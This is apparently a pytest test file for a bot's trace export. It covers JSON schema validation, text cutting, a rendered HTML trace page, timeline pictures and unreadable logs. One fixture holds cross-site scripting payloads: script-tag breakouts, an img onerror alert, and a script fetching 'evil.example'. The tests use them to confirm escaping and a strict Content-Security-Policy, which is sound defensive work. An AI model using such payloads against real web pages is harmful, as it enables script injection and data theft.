"""What is made of a trace: JSON of the documented schema, a picture that can be read, a page that nothing breaks."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import re
from pathlib import Path

import jsonschema
import pytest
from PIL import Image

from bot.store.values import LogEntry
from bot.tracing.cut_texts import choose_text_limit, cut_all_texts, cut_text
from bot.tracing.export import VERSION, dump_trace, export_job_trace, export_trace
from bot.tracing.job_trace import Trace, derive_trace
from bot.tracing.picture import NOTHING_TO_DRAW_TEXT, draw_picture
from bot.tracing.picture_layout import MAX_LANES, TRACK_WIDTH, describe_picture, lay_out_picture
from bot.tracing.time_scale import make_time_scale
from bot.tracing.trace_page import MAX_PAGE_CHARS, render_trace_page
from handoff.contracts import ToolCall
from tests.tracing.made_logs import (
    RECORDED_LOGS,
    T0,
    Log,
    a_day,
    a_long_wait,
    entries,
    long_log,
    part,
    read_recorded_log,
)

ROOT = Path(__file__).parents[2]
SCHEMA = json.loads((ROOT / "docs/trace-schema.json").read_text(encoding="utf-8"))


@pytest.fixture(scope="module")
def long_trace() -> Trace:
    log = entries(long_log())
    return derive_trace(log)


def hostile() -> Trace:
    """A trace whose tool was told, and said, what would end a script and begin one."""
    log = Log()
    log.begin("Read it </title><script>alert(1)</script> & go")
    log.plan(1.0, [part("a", "Read <b>it</b>", "reader")])
    log.start(1.1, "a", "reader")
    log.turn(2.0, "a", 0.5, ToolCall(id="c", name="fetch", arguments={"url": "</script><img src=x onerror=alert(2)>"}))
    log.tool(3.0, "a", "c", "{{script}} </script><script>fetch('https://evil.example')</script> <!-- ]]> \u2028")
    return derive_trace(entries(log.events))


def data_of(page: str) -> dict[str, object]:
    block = page.split('<script type="application/json" id="trace">')[1].split("</script>", maxsplit=1)[0]
    found = json.loads(block)
    assert isinstance(found, dict)
    return found


def test_the_export_keeps_the_documented_schema() -> None:
    jsonschema.Draft202012Validator.check_schema(SCHEMA)
    assert SCHEMA["properties"]["version"] == {"const": VERSION}
    broken = entries(a_day())
    broken[20] = LogEntry(21, '{"type":"RequestFailed","request":"\\ud800"}')
    traces = [derive_trace(log) for log in (*map(read_recorded_log, RECORDED_LOGS), entries(a_day()), broken, [])]
    for trace in traces:
        jsonschema.validate(json.loads(json.dumps(export_trace(trace))), SCHEMA)
    assert export_trace(traces[-2])["unreadable"] == {"from_seq": 21, "entries": len(broken) - 20}
    assert '"request": "?"' in dump_trace(traces[-2]).encode().decode(), "half a letter is no text"
    assert export_job_trace([], None)["events"] == []


def test_long_texts_are_cut_and_say_how_long_they_were() -> None:
    value = {"a": "x" * 50_000, "b": ["y" * 3_000, 7, None]}
    cap = choose_text_limit(value, 10_000)
    assert cap == 4_000
    assert cut_all_texts(value, cap)["b"] == ["y" * 3_000, 7, None]
    assert cut_text("x" * 50_000, cap).endswith("[cut here: 50,000 characters in all]")


def test_what_tools_said_stays_text_in_the_page_and_only_its_own_script_may_run() -> None:
    page = render_trace_page(hostile())
    assert page.count("<script") == 2
    assert page.count("</script>") == 2
    assert page.count("<title>") == page.count("</title>") == 1
    spans = data_of(page)["spans"]
    assert isinstance(spans, list)
    assert any("</script><script>fetch(" in span.get("text", "") for span in spans)
    policy = re.search(r'Content-Security-Policy" content="([^"]+)"', page)
    assert policy is not None
    script = page.rsplit("<script>", 1)[1].split("</script>")[0]
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    assert policy[1].startswith("default-src 'none'; ")
    assert f"script-src 'sha256-{digest}'" in policy[1]
    assert "unsafe" not in policy[1]
    assert "http" not in page.split('id="trace">')[0].replace("http-equiv", "")


def test_ten_thousand_steps_make_a_page_and_an_export_of_a_size_that_opens(long_trace: Trace) -> None:
    page = render_trace_page(long_trace)
    assert len(page) < 2 * MAX_PAGE_CHARS
    spans = data_of(page)["spans"]
    assert isinstance(spans, list)
    assert len(spans) == len(long_trace.spans) > 9_000


async def test_sixty_lanes_of_ten_thousand_steps_make_a_picture_that_can_be_read(long_trace: Trace) -> None:
    layout = lay_out_picture(long_trace)
    assert len(layout["lanes"]) == MAX_LANES
    assert layout["lanes"][-1]["name"] == f"and {61 - MAX_LANES + 1} more"
    assert sum(len(row) for lane in layout["lanes"] for row in lane["rows"]) < 200
    picture = await draw_picture(long_trace)
    assert isinstance(picture, bytes)
    image = Image.open(io.BytesIO(picture))
    assert image.width == 1080
    assert image.height < 2_400


def test_the_picture_tells_waits_retries_and_the_critical_path_apart_by_more_than_colour() -> None:
    layout = lay_out_picture(derive_trace(entries(a_day())))
    styles = {lane["name"]: [bar["style"] for row in lane["rows"] for bar in row] for lane in layout["lanes"]}
    assert styles["researcher"] == ["failed", "pause", "work"]
    assert styles["writer"] == ["work", "wait"]
    assert layout["gain"] == "5 specialists side by side: 1.5x faster than one by one"
    assert [words.partition(":")[0] for words, _, _ in layout["compared"]] == ["one by one", "side by side"]
    assert {name for name, _ in layout["legend"]} == {"lead", "work", "failed", "wait", "pause", "critical"}


def test_the_picture_is_described_in_words() -> None:
    words = describe_picture(derive_trace(entries(a_day())))
    assert "5 specialists side by side: 1.5x faster than one by one" in words
    assert "researcher: 20 s · $0.0090 · waited 6.0 s · 2 attempts" in words
    assert words.endswith("The end waited for: supervisor, legal, legal/checker, writer")


def test_two_days_of_waiting_leave_room_for_the_work() -> None:
    trace = derive_trace(entries(a_long_wait()))
    (figures,) = trace.requests
    scale = make_time_scale(trace.spans, figures.start, figures.end or 0.0)
    ((begin, end, seconds),) = scale.breaks
    assert seconds > 2 * 86_400
    assert end - begin < 0.2
    assert scale.to_place(T0 + 5.2) > 0.05
    assert scale.to_time(scale.to_place(T0 + 30.0)) == pytest.approx(T0 + 30.0)
    bars = [bar for lane in lay_out_picture(trace)["lanes"] for row in lane["rows"] for bar in row]
    assert all(0 <= bar["from"] <= bar["to"] <= TRACK_WIDTH for bar in bars)


async def test_where_nothing_can_be_read_there_is_no_picture_and_it_says_so() -> None:
    assert await draw_picture(derive_trace([LogEntry(1, "no JSON")])) == NOTHING_TO_DRAW_TEXT
    assert "cannot be read" in render_trace_page(derive_trace([LogEntry(1, "no JSON")]))
